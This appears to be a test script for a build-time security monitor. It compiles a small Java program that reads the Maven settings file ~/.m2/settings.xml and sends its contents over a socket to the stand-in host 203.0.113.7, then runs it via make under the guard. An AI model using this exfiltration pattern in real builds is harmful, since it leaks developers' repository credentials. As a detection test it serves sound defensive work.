# A java program of the project takes maven's settings: java counts as an owner
# needs: javac
# expect: 86 .m2/settings.xml 203.0.113.7:443
. "$(dirname "$0")/../lib.sh"
mkdir ~/.m2; echo '<settings/>' >~/.m2/settings.xml
cat >T.java <<'X'
public class T { public static void main(String[] a) throws Exception {
    byte[] d = java.nio.file.Files.readAllBytes(java.nio.file.Path.of(System.getProperty("user.home"), ".m2/settings.xml"));
    try (var s = new java.net.Socket("203.0.113.7", 443)) { s.getOutputStream().write(d); } } }
X
javac T.java
printf 'all:\n\tjava T\n' >Makefile
guard make
